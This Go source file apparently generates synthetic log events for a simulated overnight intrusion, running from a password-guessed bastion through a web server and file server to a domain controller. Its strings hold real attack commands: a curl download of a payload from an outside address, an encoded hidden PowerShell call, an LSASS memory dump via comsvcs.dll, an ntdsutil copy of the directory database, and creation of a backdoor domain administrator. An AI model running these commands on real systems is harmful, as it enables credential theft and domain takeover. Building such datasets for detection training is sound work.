package main

import (
	"strings"
	"time"
)

// intrude is the night from Monday to Tuesday: a password guessed on the
// bastion, a step to the web server, the backup account's password out of a
// script there, a service on the file server under it, an administrator's
// credentials found in memory, and with them the domain controller.
func (c *company) intrude(tuesday time.Time) {
	at := c.guess(tuesday.Add(time.Hour + 11*time.Minute))
	c.bastion(at)
	web := c.web(at.Add(13 * time.Minute))
	fs := c.fileServer(web.Add(24 * time.Minute))
	c.domainController(fs)
}

// guess is the way in: 64 tries in a quarter of an hour, the last one right.
func (c *company) guess(at time.Time) time.Time {
	existing := map[string]bool{"root": true, "mara": true, "jonas": true}
	names := strings.Fields("root admin mara jonas backup web support")
	for range 64 {
		user := names[c.rnd.IntN(len(names))]
		c.failSSH(at, "bastion1", user, intruder, existing[user])
		at = at.Add(time.Duration(9000+c.rnd.IntN(9000)) * time.Millisecond)
	}
	return at
}

func (c *company) bastion(at time.Time) {
	c.ssh(at, "bastion1", "jonas", intruder, "password", 2*time.Hour, func(at time.Time) {
		c.sudo(at.Add(95*time.Second), "bastion1", "jonas", "list")
		c.say(at.Add(3*time.Minute), "bastion1", "sudo", c.newPID(), "%8s : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/jonas ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow", "jonas")
	})
}

func (c *company) web(at time.Time) time.Time {
	c.ssh(at, "web1", "jonas", "10.20.1.10", "password", 100*time.Minute, func(at time.Time) {
		c.sudo(at.Add(50*time.Second), "web1", "jonas", "/usr/bin/cat /etc/passwd")
		c.sudo(at.Add(4*time.Minute), "web1", "jonas", "/usr/bin/cat /opt/backup/run-backup.sh")
		c.sudo(at.Add(9*time.Minute), "web1", "jonas", "/usr/bin/curl -s http://203.0.113.80/k -o /tmp/.k")
	})
	return at
}

// fileServer is a service installed over the network under the backup
// account, from a host that the account has never come from.
func (c *company) fileServer(at time.Time) time.Time {
	const web, host = "10.20.1.20", "FS01"
	user, sid := "svc-backup", domainSID+"-1140"
	c.note(at.Add(-3*time.Second), "DC01", 4776, "PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName", user, "Workstation", "WEB1", "Status", "0x0")
	id := c.networkLogon(at, host, user, sid, "WEB1", web, "NTLM")
	c.special(at.Add(time.Millisecond), host, user, sid, id)
	c.share(at.Add(300*time.Millisecond), host, user, sid, id, web, `\\*\IPC$`)
	c.share(at.Add(900*time.Millisecond), host, user, sid, id, web, `\\*\ADMIN$`)
	c.detailed(at.Add(1100*time.Millisecond), host, user, sid, id, web, `\\*\ADMIN$`, "Temp\\wupd.exe", "0x12019f")
	c.detailed(at.Add(1500*time.Millisecond), host, user, sid, id, web, `\\*\IPC$`, "svcctl", "0x12019f")
	c.note(at.Add(1800*time.Millisecond), host, 4697, "SubjectUserSid", sid, "SubjectUserName", user, "SubjectDomainName", netbios, "SubjectLogonId", id,
		"ServiceName", "WinUpdSvc", "ServiceFileName", `%SystemRoot%\Temp\wupd.exe`, "ServiceType", "0x10", "ServiceStartType", "3", "ServiceAccount", "LocalSystem")
	c.process(at.Add(2*time.Second), host, host+"$", "S-1-5-18", "0x3e7", `C:\Windows\Temp\wupd.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\Temp\wupd.exe`)
	for i, cmd := range []string{"whoami /all", `net  group "Domain Admins" /domain`, `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 640 C:\Windows\Temp\d.bin full`} {
		c.process(at.Add(time.Duration(20+40*i)*time.Second), host, host+"$", "S-1-5-18", "0x3e7", image(cmd), `C:\Windows\Temp\wupd.exe`, cmd)
	}
	at = at.Add(26 * time.Minute)
	c.note(at, host, 4648, "SubjectUserSid", sid, "SubjectUserName", user, "SubjectDomainName", netbios, "SubjectLogonId", id,
		"LogonGuid", "{00000000-0000-0000-0000-000000000000}", "TargetUserName", "adm-mara", "TargetDomainName", netbios,
		"TargetLogonGuid", "{00000000-0000-0000-0000-000000000000}", "TargetServerName", "dc01."+realm, "TargetInfo", "HTTP/dc01."+realm,
		"ProcessId", "0x1a4", "ProcessName", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "IpAddress", "-", "IpPort", "-")
	c.note(at.Add(24*time.Minute), host, 1102, "SubjectUserSid", sid, "SubjectUserName", user, "SubjectDomainName", netbios, "SubjectLogonId", id)
	return at
}

func image(command string) string {
	name, _, _ := strings.Cut(command, " ")
	return `C:\Windows\System32\` + strings.TrimSuffix(name, ".exe") + ".exe"
}

func (c *company) detailed(at time.Time, host, user, sid, id, addr, share, file, mask string) {
	c.note(at, host, 5145, "SubjectUserSid", sid, "SubjectUserName", user, "SubjectDomainName", netbios, "SubjectLogonId", id,
		"ObjectType", "File", "IpAddress", addr, "IpPort", "51822", "ShareName", share, "ShareLocalPath", `\??\C:\Windows`,
		"RelativeTargetName", file, "AccessMask", mask, "AccessList", "%%1538 %%1541", "AccessReason", "-")
}

// domainController is the end: a shell over WinRM, the directory copied, an
// account made and put among the administrators.
func (c *company) domainController(at time.Time) {
	const from, host = "10.20.2.10", "DC01"
	user, sid := "adm-mara", domainSID+"-1131"
	c.ticket(at.Add(time.Second), user, sid, from)
	c.serviceTicket(at.Add(1200*time.Millisecond), user, from, "DC01$")
	at = at.Add(2 * time.Second)
	id := c.networkLogon(at, host, user, sid, "FS01", from, "Kerberos")
	c.special(at.Add(time.Millisecond), host, user, sid, id)
	shell := `C:\Windows\System32\wsmprovhost.exe`
	c.process(at.Add(900*time.Millisecond), host, user, sid, id, shell, `C:\Windows\System32\svchost.exe`, shell+" -Embedding")
	for i, cmd := range []string{"whoami.exe", "nltest.exe /dclist:harbour", `ntdsutil.exe "ac i ntds" "ifm" "create full C:\Windows\Temp\n" q q`, "net.exe user support_svc Winter!2026 /add /domain"} {
		c.process(at.Add(time.Duration(30+70*i)*time.Second), host, user, sid, id, image(cmd), shell, cmd)
	}
	at = at.Add(6 * time.Minute)
	made := domainSID + "-1177"
	c.note(at, host, 4720, "TargetUserName", "support_svc", "TargetDomainName", netbios, "TargetSid", made,
		"SubjectUserSid", sid, "SubjectUserName", user, "SubjectDomainName", netbios, "SubjectLogonId", id, "PrivilegeList", "-", "SamAccountName", "support_svc")
	c.note(at.Add(8*time.Second), host, 4728, "MemberName", "CN=support_svc,CN=Users,DC=harbour,DC=example", "MemberSid", made,
		"TargetUserName", "Domain Admins", "TargetDomainName", netbios, "TargetSid", domainSID+"-512",
		"SubjectUserSid", sid, "SubjectUserName", user, "SubjectDomainName", netbios, "SubjectLogonId", id, "PrivilegeList", "-")
	c.logoff(at.Add(11*time.Minute), host, user, sid, id)
}
